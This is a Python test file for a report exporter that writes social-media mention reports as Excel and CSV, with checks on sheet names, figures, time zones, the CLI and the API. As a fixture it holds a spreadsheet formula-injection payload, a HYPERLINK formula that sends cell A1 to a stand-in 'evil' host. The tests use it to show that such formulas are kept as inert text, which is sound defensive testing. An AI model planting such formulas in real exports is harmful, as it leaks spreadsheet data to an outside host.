"""The report as an Excel workbook (and its cases as CSV), read back with openpyxl: the sheets in
the tenant's language, the figures the Report holds, days that add up to the stored mentions,
a stranger's formula kept as text, times in the tenant's zone; written by `escucha report` and
served by `GET /v1/reports/{period}?format=xlsx` over a real socket."""

import csv
import io
from collections import Counter
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from escucha.care.casebook import Casebook
from escucha.core.access import Role
from escucha.core.models import as_utc
from escucha.core.period import period
from escucha.report import render
from escucha.report.contents import build_report
from escucha.report.formats import XLSX
from escucha.report.render import CASE_COLUMNS, MENTION_COLUMNS, inert
from escucha.report.words import WORDS
from escucha.store.api_keys import ApiKeys
from escucha.store.cases import Cases
from escucha.store.migrate import upgrade
from escucha.store.outbox import NewReply, Outbox
from escucha.store.schema import MentionRow
from escucha.store.store import Store
from escucha.store.tenants import Tenants
from tests.factories import triaged
from tests.security.conftest import KEY_A, make_api
from tests.test_report import ANGRY, HAPPY, NOW, SHOP
from tests.test_tenants import run_group

DAY = datetime(2026, 11, 10, 10, tzinfo=UTC)  # 11:00 in Madrid
MIDNIGHT = datetime(2026, 10, 31, 23, 30, tzinfo=UTC)  # 1 November 00:30 in Madrid
EVIL = '=HYPERLINK("http://evil/?"&A1,"click")\x0b @aerosol me cobraron dos veces'
SHEETS = ["Resumen", "Por día", "Cuota de voz", "Menciones", "Casos"]


def seed(url: str) -> tuple[Store, str]:
    """test_report's tenant and mentions, a stranger's formula just past midnight in Madrid, and
    one case answered 25 minutes after it was opened; (the store, that case's id)."""
    upgrade(url)
    store = Store.from_url(url)
    Tenants(store.engine).put(SHOP)
    said = [(n, ANGRY, f"c{n}", DAY) for n in range(12)]
    said += [(100 + n, HAPPY, f"c{100 + n}", DAY + timedelta(days=5)) for n in range(4)]
    said.append((200, "Con Iberia nunca me pasó esto, @aerosol", "c200", DAY))
    said.append((500, EVIL, "=1+2", MIDNIGHT))
    mentions = [triaged(n, SHOP, tenant="acme", author=author, text=text,
                        created_at=at.isoformat()) for n, text, author, at in said]  # fmt: skip
    store.save(mentions)
    answered = mentions[0].triage.case_key
    assert answered is not None
    outbox, replied = Outbox(store.engine), DAY + timedelta(minutes=25)
    outbox.add(NewReply(key="r-1", tenant="acme", account="777", platform="x", in_reply_to="0",
                        text="Sentimos lo de su maleta, ya la buscamos.", case_id=answered),
               replied)  # fmt: skip
    claimed = outbox.claim("r-1", replied)
    assert claimed is not None
    outbox.sent(claimed, "reply-1", replied)
    keys = {m.triage.case_key for m in mentions if m.triage.case_key}
    Casebook(Cases(store.engine), lambda _: SHOP).refresh(keys, NOW)
    return store, answered


@pytest.fixture
def seeded(sqlite_url):
    store, answered = seed(sqlite_url)
    yield store, answered
    store.dispose()


def book_of(store, tenant=SHOP):
    span = period("2026-11", tenant.zone)
    report = build_report(store.engine, tenant, span, NOW)
    cases = render.case_lines(store.engine, tenant, span, NOW)
    return report, cases, load_workbook(io.BytesIO(render.export(report, "xlsx", cases)))


def rows_of(sheet):
    """The sheet's header and rows, as values."""
    header, *rows = ([c.value for c in row] for row in sheet.iter_rows())
    return header, rows


def test_the_sheets_are_in_the_tenants_language_with_bold_frozen_headers(seeded):
    _, _, book = book_of(seeded[0])
    assert book.sheetnames == SHEETS
    for sheet in book:
        assert sheet.freeze_panes == "A2", sheet.title
        assert all(cell.font.b for cell in sheet[1] if cell.value is not None), sheet.title
        assert all(5 <= sheet.column_dimensions[c].width <= 62 for c in ("A", "B")), sheet.title
    assert rows_of(book["Menciones"])[0] == [
        f"{c} (Europe/Madrid)" if c == "created_at" else c for c in MENTION_COLUMNS
    ]
    english = SHOP.model_copy(update={"languages": ["en"]})
    assert book_of(seeded[0], english)[2].sheetnames == [
        "Summary", "By day", "Share of voice", "Mentions", "Cases"
    ]  # fmt: skip


def test_the_summary_holds_the_reports_figures_with_their_counts(seeded):
    report, _, book = book_of(seeded[0])
    care = report.care
    assert care.response_rate.over >= 2 and care.first_response.count == 1  # something to show
    figures = {row[0]: row[1:] for row in rows_of(book["Resumen"])[1]}
    assert figures["Periodo"][0] == "2026-11" and figures["Zona horaria"][0] == "Europe/Madrid"
    assert figures["Menciones"][0] == report.mentions == 18
    rate = care.response_rate
    assert figures["Tasa de respuesta"] == [rate.value, rate.hits, rate.over]
    first = care.first_response
    assert figures["Primera respuesta: mediana, laboral (min)"] == [
        first.business_median_minutes, first.count, None
    ]  # fmt: skip
    assert figures["Primera respuesta: mediana, en tiempo de reloj (min)"][:2] == [25, 1]
    assert care.sla, "the default policies set SLA targets"
    for target, met in care.sla.items():
        label = f"Cumplimiento de SLA: {WORDS['es']['sla_' + target]}"
        assert figures[label] == [met.value, met.hits, met.over], label
    recovery = report.recovery
    assert figures["Recuperación de quejas"] == [
        recovery.so_far, recovery.recovered, recovery.complainers
    ]  # fmt: skip
    assert isinstance(figures["Menciones"][0], int)  # a number, not the text "18"


def test_the_day_sheet_adds_up_to_the_stored_mentions(seeded):
    store = seeded[0]
    span = period("2026-11", SHOP.zone)
    with Session(store.engine) as session:
        stamps = [as_utc(at) for at in session.scalars(
            select(MentionRow.created_at).where(MentionRow.tenant == "acme"))]  # fmt: skip
    stored = Counter(at.astimezone(SHOP.zone).date() for at in stamps
                     if span.since <= at < span.until)  # fmt: skip
    _, _, book = book_of(store)
    header, days = rows_of(book["Por día"])
    assert header[:5] == ["día (Europe/Madrid)", "positivas", "neutras", "negativas", "total"]
    assert len(days) == 30 and all(isinstance(row[0], datetime) for row in days)
    assert all(row[1] + row[2] + row[3] == row[4] for row in days)
    assert {row[0].date(): row[4] for row in days if row[4]} == dict(stored)
    assert sum(row[4] for row in days) == sum(stored.values()) == 18
    assert days[0][0] == datetime(2026, 11, 1) and days[0][4] == 1  # UTC would say 31 October
    voices = rows_of(book["Cuota de voz"])[1]
    assert [(v[0], v[1], v[2]) for v in voices] == [
        ("Aerolíneas Sol", True, 18),
        ("Iberia", False, 1),
    ]


def test_a_strangers_formula_is_kept_as_inert_text(seeded):
    _, _, book = book_of(seeded[0])
    header, mentions = rows_of(book["Menciones"])
    evil = next(row for row in mentions if row[0] == "acme:x:500")
    text = book["Menciones"].cell(mentions.index(evil) + 2, header.index("text") + 1)
    assert text.data_type == "s" and text.value == inert(EVIL.replace("\x0b", "\ufffd"))
    assert text.value.startswith("'=HYPERLINK(")
    assert evil[header.index("author")] == "'=1+2"
    cases_header, cases = rows_of(book["Casos"])
    assert "'=1+2" in [row[cases_header.index("author")] for row in cases]
    formulas = [(s.title, c.coordinate) for s in book for row in s.iter_rows() for c in row
                if c.data_type == "f"]  # fmt: skip
    assert formulas == []


def test_times_are_written_in_the_tenants_zone(seeded):
    store, answered = seeded
    _, cases, book = book_of(store)
    header, mentions = rows_of(book["Menciones"])
    evil = next(row for row in mentions if row[0] == "acme:x:500")
    assert evil[header.index("created_at (Europe/Madrid)")] == datetime(2026, 11, 1, 0, 30)
    cases_header, rows = rows_of(book["Casos"])
    assert cases_header == [f"{c} (Europe/Madrid)" if c.endswith("_at") else c
                            for c in CASE_COLUMNS]  # fmt: skip
    line = dict(zip(cases_header, next(r for r in rows if r[0] == answered), strict=True))
    assert line["opened_at (Europe/Madrid)"] == datetime(2026, 11, 10, 11)
    assert line["first_response_at (Europe/Madrid)"] == datetime(2026, 11, 10, 11, 25)
    assert line["first_response_min"] == 25 and line["status"] == "open"
    assert book["Casos"].cell(2, 4).is_date and book["Menciones"].cell(2, 2).is_date
    span = period("2026-11", SHOP.zone)
    active = Cases(store.engine).active("acme", span.since, span.until)
    assert [r[0] for r in rows] == [c.id for c in cases] == active


def test_the_cases_csv_has_one_row_per_active_case_in_the_tenants_zone(seeded):
    store, answered = seeded
    span = period("2026-11", SHOP.zone)
    report = build_report(store.engine, SHOP, span, NOW)
    cases = render.case_lines(store.engine, SHOP, span, NOW)
    read = list(csv.DictReader(io.StringIO(render.export(report, "cases-csv", cases).decode())))
    assert [r["id"] for r in read] == Cases(store.engine).active("acme", span.since, span.until)
    mine = next(r for r in read if r["id"] == answered)
    assert mine["opened_at"] == "2026-11-10T11:00:00+01:00"
    assert mine["first_response_at"] == "2026-11-10T11:25:00+01:00"
    assert mine["first_response_min"] == "25.0" and mine["resolved_at"] == ""
    assert next(r for r in read if r["id"] == "acme:x:=1+2")["author"] == "'=1+2"


def test_the_cli_writes_a_workbook_and_the_cases_csv(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    store, _ = seed(f"sqlite:///{data / 'escucha.db'}")
    store.dispose()
    out = tmp_path / "acme-2026-11.xlsx"
    written = run_group("report", ["--tenant", "acme", "--period", "2026-11", "--format", "xlsx",
                                   "--output", str(out)], data)  # fmt: skip
    assert written.returncode == 0, written.stderr
    assert out.read_bytes()[:2] == b"PK"  # a zip, as every .xlsx is
    book = load_workbook(out)
    assert book.sheetnames == SHEETS and len(rows_of(book["Menciones"])[1]) == 18
    listed = run_group("report", ["--tenant", "acme", "--period", "2026-11", "--format",
                                  "cases-csv"], data)  # fmt: skip
    assert listed.returncode == 0, listed.stderr
    assert listed.stdout.splitlines()[0] == ",".join(CASE_COLUMNS)
    assert len(list(csv.DictReader(io.StringIO(listed.stdout)))) == len(rows_of(book["Casos"])[1])
    refused = run_group("report", ["--tenant", "acme", "--format", "docx"], data)
    assert refused.returncode == 2


def test_the_api_serves_the_workbook_over_a_real_socket(redis_server, sqlite_url, tmp_path):
    seed(sqlite_url)[0].dispose()
    for api in make_api(redis_server.url, sqlite_url, data_dir=tmp_path / "data"):
        store = Store.from_url(sqlite_url)
        _, key = ApiKeys(store.engine).create("acme", Role.read)
        store.dispose()
        reader = {"X-API-Key": key}
        got = api.client.get("/v1/reports/2026-11", params={"format": "xlsx"}, headers=reader)
        assert got.status_code == 200, got.text
        assert got.headers["content-type"] == XLSX
        assert got.headers["content-disposition"] == (
            'attachment; filename="escucha-acme-2026-11.xlsx"'
        )
        book = load_workbook(io.BytesIO(got.content))
        assert book.sheetnames == SHEETS and len(rows_of(book["Menciones"])[1]) == 18
        cases = api.client.get("/v1/reports/2026-11?format=cases-csv", headers=reader)
        assert cases.headers["content-type"] == "text/csv; charset=utf-8"
        assert cases.headers["content-disposition"].endswith('"escucha-acme-2026-11.cases.csv"')
        assert cases.text.splitlines()[0] == ",".join(CASE_COLUMNS)
        mentions = api.client.get("/v1/reports/2026-11?format=csv", headers=reader)
        # csv, not splitlines: the stranger's vertical tab is no line break inside its quotes
        assert len(list(csv.reader(io.StringIO(mentions.text)))) == 1 + 18
        assert api.client.get("/v1/reports/2026-11", headers=reader).json()["mentions"] == 18
        assert api.client.get("/v1/reports/2026-11?format=docx", headers=reader).status_code == 422
        theirs = api.client.get("/v1/reports/2026-11?format=xlsx", headers=KEY_A)
        assert rows_of(load_workbook(io.BytesIO(theirs.content))["Menciones"])[1] == []
